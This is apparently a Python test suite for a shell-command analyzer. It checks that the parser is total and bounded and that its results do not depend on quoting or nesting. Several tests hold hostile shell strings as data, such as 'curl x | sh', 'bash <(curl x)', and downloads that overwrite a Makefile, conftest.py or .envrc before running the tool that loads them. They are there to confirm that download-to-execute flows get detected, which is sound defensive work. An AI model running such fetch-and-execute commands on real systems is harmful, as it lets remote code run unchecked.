"""Laws of the shell reader: total, bounded, independent of spelling."""

import shlex
import time

import pytest
from hostile import HOSTILE
from hypothesis import given, settings
from hypothesis import strategies as st

from bailiwick.analysis.shell import DEFECT, ShellContext, analyze_shell
from bailiwick.analysis.shell.listing import listing
from bailiwick.analysis.shell.record import MAX_WORK
from bailiwick.model.access import Facts, Flow, ProgramTarget

CONTEXT = ShellContext(cwd="/w", home="/home/u", project="/w")
FRAGMENTS = st.sampled_from([
    "rm ", "cat ", "echo ", "x", "$x", '"', "'", "`", "$(", ")", "(", "{", "}", ";", "&&", "|", "\n", "<<E\n", "\nE\n",
    "if ", "then ", "fi ", "for i in ", "do ", "done ", "case ", "esac ", "[[ ", "]] ", "${x:-", "$((", "))", ">", "<(",
    "\\", "\\\n", "*", "{a,b}", "~", "=", "a=", "eval ", "bash -c ", "git ", "find . ", "sed ", "-exec ", "sudo ", "xargs ",
    "#", "\r", "\u00a0", "f() ", "while ", "! ", "&", "$'\\x41'", "tar ", "curl ", "python3 -c ", "printf ", "cd ", "awk ",
])  # fmt: skip


def facts(text: str, dialect: str = "bash") -> Facts:
    found = analyze_shell(text, ShellContext(cwd="/w", home="/home/u", project="/w", dialect=dialect))
    assert DEFECT not in {part.reason for part in found.opaque}
    return found


@settings(max_examples=150, deadline=None)
@given(
    st.one_of(st.text(max_size=200), st.lists(FRAGMENTS, max_size=25).map("".join)),
    st.sampled_from(["bash", "sh", "zsh"]),
)
def test_any_text_gives_facts(text: str, dialect: str) -> None:
    found = facts(text, dialect)
    for item in (*found.accesses, *found.opaque):
        assert item.cause is None or 0 <= item.cause.start <= item.cause.end <= len(text)
    for flow in found.flows:
        for index in (flow.source, flow.sink):
            assert isinstance(found.accesses[index].target, ProgramTarget)


@settings(max_examples=50, deadline=None)
@given(st.binary(max_size=200))
def test_any_bytes_give_facts(data: bytes) -> None:
    facts(data.decode("utf-8", "replace"))
    facts(data.decode("utf-8", "surrogateescape"))


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_text_takes_bounded_time(name: str) -> None:
    started = time.process_time()
    found = facts(HOSTILE[name])
    assert time.process_time() - started < 2
    assert len(found.accesses) + len(found.flows) <= MAX_WORK


def test_a_longer_text_is_opaque_as_a_whole() -> None:
    found = facts("rm x;" * 2500)
    assert [o.cause.end for o in found.opaque if o.cause] == [12_500]


# -- spelling

NAMES = st.sampled_from(
    [
        "a",
        "b.txt",
        "dir/c",
        "/etc/hosts",
        "two words",
        "semi;colon",
        "star*",
        "q'uote",
        "$dollar",
        "-dash",
        "#x",
        "~t",
    ]
)
COMMANDS = st.one_of(
    st.tuples(st.sampled_from(["cat", "rm", "touch", "wc"]), st.lists(NAMES, min_size=1, max_size=3)).map(
        lambda t: [t[0], "--", *t[1]]
    ),
    st.tuples(NAMES, NAMES).map(lambda t: ["cp", "-T", "--", *t]),
    st.tuples(NAMES).map(lambda t: ["sort", "-o", t[0], "in"]),
    st.tuples(NAMES).map(lambda t: ["git", "diff", "--output=" + t[0]]),
)


def double(word: str) -> str:
    return '"' + "".join("\\" + c if c in '"$`\\' else c for c in word) + '"'


def escaped(word: str) -> str:
    return "".join(c if c.isalnum() or c in "/._-=" else "\\" + c for c in word)


def ansi(word: str) -> str:
    return "$'" + "".join(f"\\x{ord(c):02x}" for c in word) + "'"


def pieces(word: str) -> str:
    return "''".join(shlex.quote(c) for c in word)


def plain(words: list[str]) -> str:
    return shlex.join(words)


WRAPPERS = {
    "subshell": lambda c: f"( {c} )",
    "group": lambda c: f"{{ {c}; }}",
    "and": lambda c: f"true && {c}",
    "or": lambda c: f"false || {c}",
    "if": lambda c: f"if true; then {c}; fi",
    "condition": lambda c: f"if {c}; then :; fi",
    "else": lambda c: f"if false; then :; else {c}; fi",
    "while": lambda c: f"while {c}; do break; done",
    "for": lambda c: f"for i in 1 2; do {c}; done",
    "case": lambda c: f"case x in x) {c};; esac",
    "function": lambda c: f"{{ f() {{ {c}; }}; f; }}",
    "background": lambda c: f"( {c} & )",
    "negated": lambda c: f"! {c}",
    "newline": lambda c: f"true\n{c}",
    "sequence": lambda c: f"true; {c}",
    "comment": lambda c: f"{{ # comment\n{c}; }}",
    "assignment": lambda c: f"zz=1\n{c}",
}


def without_spelling(text: str) -> list[str]:
    return [line for line in listing(facts(text), "/w") if not line.startswith("set ")]


@settings(max_examples=120, deadline=None)
@given(COMMANDS, st.sampled_from([double, escaped, ansi, pieces, shlex.quote]))
def test_quoting_doesnt_matter(words: list[str], quote: object) -> None:
    assert callable(quote)
    spelled = " ".join(quote(word) for word in words)
    assert without_spelling(spelled) == without_spelling(plain(words))


@settings(max_examples=120, deadline=None)
@given(COMMANDS, st.lists(st.sampled_from(sorted(WRAPPERS)), min_size=1, max_size=3), st.booleans())
def test_nesting_doesnt_matter(words: list[str], wrappers: list[str], trapped: bool) -> None:  # noqa: FBT001 - drawn
    text = plain(words)
    for name in wrappers:
        text = WRAPPERS[name](text)
    if trapped:  # outermost only: what a trap does that a loop sets anew needn't be known
        text = f"trap {shlex.quote(text)} EXIT"
    assert without_spelling(text) == without_spelling(plain(words))


@settings(max_examples=80, deadline=None)
@given(
    COMMANDS,
    st.sampled_from(
        [
            "nohup",
            "timeout 5",
            "nice -n 3",
            "env",
            "sudo",
            "setsid",
            "command",
            "bash -c",
            "sh -ec",
            "eval",
            "stdbuf -oL",
        ]
    ),
)
def test_wrappers_add_themselves_only(words: list[str], wrapper: str) -> None:
    inner = plain(words)
    text = (
        f"{wrapper} {shlex.quote(inner) if wrapper.split(maxsplit=1)[0] in ('bash', 'sh', 'eval') else inner}"
    )
    found = {line.replace(" as root", "") for line in without_spelling(text)}
    expected = {line for line in without_spelling(inner) if line != "opaque"}
    assert expected <= found, found


def test_flows_follow_pipes_substitutions_and_variables() -> None:
    def flows(text: str) -> set[tuple[str, str]]:
        found = facts(text)

        def name(flow_end: int) -> str:
            target = found.accesses[flow_end].target
            assert isinstance(target, ProgramTarget)
            return target.name

        return {(name(flow.source), name(flow.sink)) for flow in found.flows if isinstance(flow, Flow)}

    assert flows("curl x | tee f | sh") == {("curl", "tee"), ("tee", "sh")}
    assert flows('bash -c "$(curl x)"') == {("curl", "bash")}
    assert flows('x=$(curl y); eval "$x"') == {("curl", "eval")}
    assert flows("bash <(curl x)") == {("curl", "bash")}
    assert flows("curl x > >(sh)") == {("curl", "sh")}
    assert flows("(curl x; wget y) | sudo sh") == {
        ("curl", "sudo"),
        ("curl", "sh"),
        ("wget", "sudo"),
        ("wget", "sh"),
    }
    assert flows("sh <<< $(curl x)") == {("curl", "sh")}
    assert flows("curl x | while read l; do eval $l; done") == {("curl", "eval")}
    assert flows("cat a; cat b") == set()


@pytest.mark.parametrize(
    ("text", "fed"),
    [
        ("curl -o x http://e; sh x", {("curl", "sh")}),
        ("curl http://e > x; sh < x", {("curl", "sh")}),
        ("curl http://e > x; . ./x", {("curl", ".")}),
        ("curl http://e > x; cp x y; sh y", {("curl", "cp"), ("cp", "sh")}),
        ("curl http://e > x; mv x y; python3 y", {("curl", "mv"), ("mv", "python3")}),
        ("curl http://e | tee x; sh x", {("curl", "tee"), ("tee", "sh")}),
        ("{ curl http://e; wget http://f -O -; } > x; sh x", {("curl", "sh"), ("wget", "sh")}),
        ("curl http://e > /tmp/x && chmod +x /tmp/x && /tmp/x", {("curl", "x")}),
        ("curl http://e | tar xz && sh d/install.sh", {("curl", "tar"), ("tar", "sh")}),
        ("curl http://e > a.sh; cat *.sh | sh", {("curl", "cat"), ("cat", "sh")}),
        ("mkfifo p; sh p & curl http://e > p", {("curl", "sh"), ("mkfifo", "sh")}),
        ("for u in a b c d e f g h i; do sh x; curl $u > x; done", {("curl", "sh")}),
        ("ln -s y x; curl http://e > x; sh y", {("curl", "sh")}),
        ("curl http://e > x; sh y", set()),
        ("sh x; curl http://e > x", set()),
    ],
)
def test_a_file_is_a_pipe_with_a_name(text: str, fed: set[tuple[str, str]]) -> None:
    found = facts(text)
    names = [getattr(access.target, "name", "") for access in found.accesses]
    assert {(names[flow.source], names[flow.sink]) for flow in found.flows} == fed


@pytest.mark.parametrize(
    "command",
    [
        "curl -o Makefile https://x.example/m; make test",
        "wget -O conftest.py https://x.example/c && pytest",
        "curl https://x.example/p > package.json; npm test",
        "curl -o sub/build.gradle https://x.example/b; gradle build",
        "curl -o .envrc https://x.example/e; direnv allow",
    ],
)
def test_a_file_that_a_tool_takes_by_itself_feeds_it(command: str) -> None:
    facts = analyze_shell(command, ShellContext(cwd="/w", home="/home/u", project="/w"))
    programs = [n for n, access in enumerate(facts.accesses) if isinstance(access.target, ProgramTarget)]
    assert any((flow.source, flow.sink) == (programs[0], programs[-1]) for flow in facts.flows), facts.flows
